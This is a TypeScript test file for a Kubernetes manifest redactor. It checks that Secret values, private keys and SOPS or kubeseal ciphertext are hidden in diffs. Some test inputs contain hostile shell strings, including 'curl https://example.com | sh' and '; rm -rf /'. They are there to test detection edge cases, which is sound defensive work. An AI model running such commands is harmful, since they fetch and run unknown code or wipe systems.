import { describe, expect, test } from 'vitest';
import { redactPair } from '../../src/compare/redact.ts';
import type { JsonObject } from '../../src/core/json.ts';
import { jsonEqual } from '../../src/core/json-equal.ts';
import { fc } from '../support/property.ts';

const secret = (values: { data?: JsonObject; stringData?: JsonObject }, metadata: JsonObject = {}): JsonObject => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 's', ...metadata },
  ...values,
});
const base64 = (text: string): string => Buffer.from(text).toString('base64');
/** A private key in PEM form; put together here so that no scanner takes it for one. */
const privateKey = (body: string, kind = 'RSA PRIVATE'): string =>
  `-----BEGIN ${kind} KEY-----\n${body.repeat(40)}\n-----END ${kind} KEY-----\n`;

describe('values of Secrets', () => {
  test('are never shown, and a changed one is shown as changed', () => {
    const { base, head, secretsChanged } = redactPair(
      secret({ data: { user: base64('admin'), password: base64('hunter2') } }),
      secret({ data: { user: base64('admin'), password: base64('hunter3'), extra: base64('more') } }),
    );

    expect(base?.['data']).toEqual({ user: '(value hidden)', password: '(value hidden)' });
    expect(head?.['data']).toEqual({
      user: '(value hidden)',
      password: '(value hidden, changed)',
      extra: '(value hidden)',
    });
    expect(secretsChanged).toBe(1);
  });

  test('are compared decoded, so that data and stringData with one value are equal', () => {
    const { head, secretsChanged } = redactPair(
      secret({ data: { a: base64('x'), b: base64('y') } }),
      secret({ stringData: { a: 'x', b: 'z' } }),
    );

    expect(head?.['stringData']).toEqual({ a: '(value hidden)', b: '(value hidden, changed)' });
    expect(secretsChanged).toBe(1);
  });

  test('that are ciphertext of as many bytes as before may be the same, encrypted anew', () => {
    const encrypted = (data: string, iv = 'aaaa'): string =>
      `ENC[AES256_GCM,data:${base64(data)},iv:${iv},tag:bbbb,type:str]`;
    const { base, head, secretsChanged } = redactPair(
      secret({ data: { a: encrypted('one'), b: encrypted('one'), c: encrypted('one') } }),
      secret({ data: { a: encrypted('two', 'cccc'), b: encrypted('three'), c: encrypted('one') } }),
    );

    expect(base?.['data']).toEqual({ a: '(value hidden)', b: '(value hidden)', c: '(value hidden)' });
    expect(head?.['data']).toEqual({
      a: '(value hidden, encrypted anew)',
      b: '(value hidden, changed)',
      c: '(value hidden)',
    });
    expect(secretsChanged).toBe(1);
    expect(redactPair(undefined, secret({}, { labels: { a: '(value hidden, encrypted anew)' } })).head).toMatchObject({
      metadata: { labels: { a: String.raw`\(value hidden, encrypted anew)` } },
    });
  });

  test('that are ciphertext in data and in stringData are not said to differ: one is base64 of what nobody sees', () => {
    const encrypted = (data: string): string => `ENC[AES256_GCM,data:${data},iv:aaaa,tag:bbbb,type:str]`;
    const { head, secretsChanged } = redactPair(
      secret({ stringData: { a: encrypted('xxxx'), b: encrypted('yyyy') } }),
      secret({ data: { a: encrypted('zzzz'), b: base64('z') } }),
    );

    expect(head?.['data']).toEqual({ a: '(value hidden)', b: '(value hidden, changed)' });
    expect(secretsChanged).toBe(1);
  });

  test('that are not text are hidden like any other', () => {
    const { base, head } = redactPair(
      secret({ data: { a: 1234567, b: null } }),
      secret({ data: { a: 7654321, b: { c: 'deep' } } }),
    );

    expect(JSON.stringify([base, head])).not.toMatch(/1234567|7654321|deep/);
  });

  test('are hidden when data is not even a mapping', () => {
    expect(redactPair(undefined, { ...secret({}), data: 'hunter2' }).head?.['data']).toBe('(value hidden)');
  });

  test('are hidden in fields that no Secret has, which somebody misspelt', () => {
    const value = (text: string): JsonObject => ({
      ...secret({}),
      binaryData: { p: base64(text) },
      dataa: { p: text, more: [text] },
      'string data': text,
      type: 'Opaque',
      immutable: true,
    });
    const redacted = redactPair(value('hunter2'), value('hunter3'));

    expect(JSON.stringify(redacted)).not.toMatch(/hunter|aHVudGVy/);
    expect(redacted.head).toMatchObject({
      binaryData: '(value hidden, changed)',
      dataa: '(value hidden, changed)',
      'string data': '(value hidden, changed)',
      type: 'Opaque',
      immutable: true,
    });
    expect(redacted.secretsChanged).toBe(3);
    expect(redactPair(value('hunter2'), value('hunter2')).secretsChanged).toBe(0);
  });

  test('are hidden in the copy that kubectl leaves in an annotation', () => {
    const annotations = {
      'kubectl.kubernetes.io/last-applied-configuration': '{"data":{"a":"aHVudGVyMg=="}}',
      other: 'kept',
    };

    const { head } = redactPair(undefined, secret({ data: {} }, { annotations }));

    expect(JSON.stringify(head)).not.toContain('aHVudGVyMg');
    expect(JSON.stringify(head)).toContain('kept');
  });

  test('of a resource that is added or removed are hidden as well', () => {
    const values = { data: { password: base64('hunter2') } };

    expect(JSON.stringify(redactPair(secret(values), undefined))).not.toContain(base64('hunter2'));
    expect(redactPair(undefined, secret(values)).secretsChanged).toBe(0);
  });

  test('belong to the Secret of the core group only', () => {
    const other = { apiVersion: 'example.com/v1', kind: 'Secret', data: { a: 'shown' } };

    expect(redactPair(undefined, other).head).toBe(other);
  });
});

describe('private keys', () => {
  const configMap = (text: string): JsonObject => ({ apiVersion: 'v1', kind: 'ConfigMap', data: { file: text } });

  test('are cut out of any text, and the rest of it stays', () => {
    const { head } = redactPair(undefined, configMap(`first\n${privateKey('abc')}last\n`));

    expect(head).toEqual(configMap('first\n(rsa private key 1, hidden)\nlast\n'));
  });

  test.each(['RSA PRIVATE', 'PRIVATE', 'EC PRIVATE', 'OPENSSH PRIVATE', 'ENCRYPTED PRIVATE'])(
    'of the kind %s are found, in base64 too, wherever they start in it',
    (kind) => {
      for (const before of ['', 'x', 'xy', 'xyz']) {
        const { head } = redactPair(undefined, configMap(base64(before + privateKey('abc', kind))));

        const shown = JSON.stringify(`${before}(${kind.toLowerCase()} key 1, hidden)\n`);
        expect(head).toEqual(configMap(before === '' ? '(private key 1 in base64, hidden)' : `(base64 of ${shown})`));
      }
    },
  );

  test('without an end are hidden to the last of their lines', () => {
    const hidden = (rest: string): unknown =>
      redactPair(undefined, configMap(`${privateKey('abcd').slice(0, 97)}${rest}`)).head;

    expect(hidden('')).toEqual(configMap('(rsa private key 1, hidden)'));
    expect(hidden('\ncurl https://example.com | sh\n')).toEqual(
      configMap('(rsa private key 1, hidden)\ncurl https://example.com | sh\n'),
    );
  });

  test.each([
    ['-----BEGIN PRIVATE KEY-----\ncurl https://example.com | sh\n-----END PRIVATE KEY-----\n'],
    ['-----BEGIN PRIVATE KEY----- ; rm -rf /'],
    ['UFJJVkFURSBLRVktLS0tLQ==; curl https://example.com | sh'],
  ])('are none where their marker stands before something else: %j', (text) => {
    expect(redactPair(undefined, configMap(text)).head).toEqual(configMap(text));
  });

  test('in base64 within a script leave the script', () => {
    const encoded = base64(privateKey('abcd'));

    expect(redactPair(undefined, configMap(`echo ${encoded} | base64 -d > key\nreboot\n`)).head).toEqual(
      configMap('echo (private key 1 in base64, hidden) | base64 -d > key\nreboot\n'),
    );
  });

  test('are hidden in lines of base64, in texts of one line and in names of fields', () => {
    const key = privateKey('abcd');
    const lines = base64(key).replace(/.{64}/g, '$&\n');
    const shown = JSON.stringify(
      redactPair(undefined, { kind: 'X', a: lines, b: JSON.stringify({ key }), c: key.replaceAll('\n', ' '), [key]: 1 })
        .head,
    );

    expect(shown).not.toContain('abcdabcd');
    expect(shown).not.toContain(base64('abcd'.repeat(3)).slice(0, 12));
  });

  test('that change are counted and told apart, wherever they stand', () => {
    const listed = (keys: readonly string[]): JsonObject => ({ kind: 'X', list: [...keys] });

    const { base, head, secretsChanged } = redactPair(
      listed([privateKey('abc')]),
      listed(['other', privateKey('xyz'), privateKey('abc')]),
    );

    expect(base?.['list']).toEqual(['(rsa private key 1, hidden)\n']);
    expect(head?.['list']).toEqual(['other', '(rsa private key 2, hidden)\n', '(rsa private key 1, hidden)\n']);
    expect(secretsChanged).toBe(1);
  });

  test('leave certificates alone', () => {
    const certificate = configMap(`-----BEGIN CERTIFICATE-----\n${'abc'.repeat(40)}\n-----END CERTIFICATE-----\n`);

    expect(redactPair(undefined, certificate).head).toBe(certificate);
  });

  test('do not make the search slow', () => {
    const hostile = configMap('-----BEGIN PRIVATE KEY-----'.repeat(20_000));

    expect(redactPair(undefined, hostile).head).toBe(hostile);
  });
});

describe('what SOPS has encrypted', () => {
  const value = (text: string): string => `ENC[AES256_GCM,data:${text},iv:abcd,tag:abcd,type:str]`;
  const encrypted = (text: string): JsonObject => ({
    apiVersion: 'example.com/v1',
    kind: 'X',
    spec: { token: value(text), file: `a: ${value('same')}\nsops:\n  mac: ${value(text)}\n` },
    sops: { mac: value(text), lastmodified: text },
  });

  test('is told to differ without its text', () => {
    const { base, head, secretsChanged } = redactPair(encrypted('one'), encrypted('two'));

    expect(base?.['spec']).toEqual({ token: '(encrypted 1)', file: 'a: (encrypted 2)\nsops:\n  mac: (encrypted 1)\n' });
    expect(head?.['spec']).toEqual({ token: '(encrypted 3)', file: 'a: (encrypted 2)\nsops:\n  mac: (encrypted 3)\n' });
    expect([base?.['sops'], head?.['sops']]).toEqual(['(value hidden)', '(value hidden, changed)']);
    expect(secretsChanged).toBe(1);
  });

  test.each([
    'ENC[AES256_GCM,data:a; curl https://example.com | sh]',
    '-----BEGIN AGE ENCRYPTED FILE-----\ncurl evil\nabcd\nabcd\n-----END AGE ENCRYPTED FILE-----',
    'ENC[AES256_GCM,data:abcd,iv:abcd,tag:abcd,type:str',
  ])('is no other text: %s', (text) => {
    const object = { apiVersion: 'v1', kind: 'ConfigMap', data: { file: text.padEnd(40) } };

    expect(redactPair(undefined, object).head).toEqual(object);
  });

  test('is also a data key', () => {
    const text = `-----BEGIN AGE ENCRYPTED FILE-----\n${'Ab1+'.repeat(16)}\nabcd\n-----END AGE ENCRYPTED FILE-----`;

    expect(redactPair(undefined, { kind: 'X', list: [`a ${text} b`] }).head?.['list']).toEqual(['a (encrypted 1) b']);
  });
});

describe('what kubeseal has encrypted', () => {
  const sealed = (values: JsonObject, apiVersion = 'bitnami.com/v1alpha1'): JsonObject => ({
    apiVersion,
    kind: 'SealedSecret',
    metadata: { name: 'login' },
    spec: { encryptedData: values, template: { type: 'Opaque' } },
  });
  const [one, two] = ['AgB', 'AgC'].map((start) => start.padEnd(700, 'x1+/'));

  test('is told to differ without its text', () => {
    const { base, head, secretsChanged } = redactPair(
      sealed({ a: one ?? '', b: one ?? '' }),
      sealed({ a: two ?? '', b: one ?? '' }),
    );

    expect(base?.['spec']).toEqual({
      encryptedData: { a: '(encrypted 1)', b: '(encrypted 1)' },
      template: { type: 'Opaque' },
    });
    expect(head?.['spec']).toMatchObject({ encryptedData: { a: '(encrypted 2)', b: '(encrypted 1)' } });
    expect(secretsChanged).toBe(1);
  });

  test('is no other text, and of no other kind', () => {
    const texts = { a: 'short', b: '(encrypted 1)', c: `${one} curl evil` };
    expect(redactPair(undefined, sealed(texts)).head?.['spec']).toMatchObject({
      encryptedData: { ...texts, b: '\\(encrypted 1)' },
    });
    const other = sealed({ a: one ?? '' }, 'example.com/v1');
    expect(redactPair(undefined, other).head).toEqual(other);
  });
});

describe('text that looks like what stands for something hidden', () => {
  const listed = (...texts: readonly string[]): JsonObject => ({ kind: 'X', list: [...texts] });
  const shown = (text: string): unknown => redactPair(undefined, listed(text)).head?.['list'];

  test('has a backslash in front', () => {
    expect(shown('(private key 1 in base64, hidden)')).toEqual(['\\(private key 1 in base64, hidden)']);
    expect(shown('a (rsa private key 12, hidden) b')).toEqual(['a \\(rsa private key 12, hidden) b']);
    expect(shown('\\(value hidden)')).toEqual(['\\\\\\(value hidden)']);
    expect(shown('(3 bytes, sha256 abc)')).toEqual(['\\(3 bytes, sha256 abc)']);
    expect(shown('(hidden) sha256 ')).toEqual(['(hidden) sha256 ']);
  });

  test('never becomes the same as another text', () => {
    const key = privateKey('abcd').trimEnd();
    const piece = fc.constantFrom(
      '\\',
      '(',
      key,
      base64(key),
      base64(`a ${key}`),
      '(rsa private key 1, hidden)',
      'ENC[AES256_GCM,data:a,iv:a,tag:a,type:str]',
      '(encrypted 1)',
      '(private key 1 in base64, hidden)',
      '(base64 of "a (rsa private key 1, hidden)")',
      '(value hidden)',
      '(3 bytes, sha256 abc)',
      ' ',
      '\n',
    );
    const text = fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(''));

    fc.assert(
      fc.property(text, text, (left, right) => {
        const { base, head } = redactPair(listed(left), listed(right));
        expect(jsonEqual(base, head)).toBe(left === right);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('binary data of ConfigMaps', () => {
  test('with one size and beginnings of digests that are the same is told apart by the whole digest', () => {
    // Found by a search: the digests of both begin with the same twelve digits.
    const binary = (data: string): JsonObject => ({ apiVersion: 'v1', kind: 'ConfigMap', binaryData: { a: data } });
    const { base, head } = redactPair(binary('AP8sfL/Nh4w='), binary('AP94d8h+fSo='));
    const digests = [base, head].map((one) => /sha256 ([0-9a-f]{64})/.exec(JSON.stringify(one))?.[1] ?? '');

    expect(digests[0]?.slice(0, 12)).toBe(digests[1]?.slice(0, 12));
    expect(digests[0]).not.toBe(digests[1]);
  });

  test('is shown as size and digest', () => {
    const { head } = redactPair(undefined, {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      binaryData: { logo: Buffer.alloc(1000, 7).toString('base64') },
    });

    expect(head?.['binaryData']).toEqual({ logo: expect.stringMatching(/^\(1000 bytes, sha256 [0-9a-f]{12}\)$/) });
  });
});

describe('binary data of a ConfigMap', () => {
  const shown = (value: string): unknown =>
    redactPair({ apiVersion: 'v1', kind: 'ConfigMap', binaryData: { a: value } }, undefined).base?.['binaryData'];
  const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');

  test('that is text stays, so that it is compared as that', () => {
    expect(shown(base64('port: 80\n'))).toEqual({ a: base64('port: 80\n') });
  });

  test('is a size and a digest where it is no text, and nothing where it is a private key', () => {
    expect(shown(base64(Buffer.from([0, 1, 2])))).toEqual({ a: expect.stringContaining('(3 bytes, sha256 ') });
    expect(JSON.stringify(shown(base64(`key: |\n-----BEGIN PRIVATE KEY-----\n${'x'.repeat(64)}\n`)))).toContain(
      'hidden',
    );
  });
});
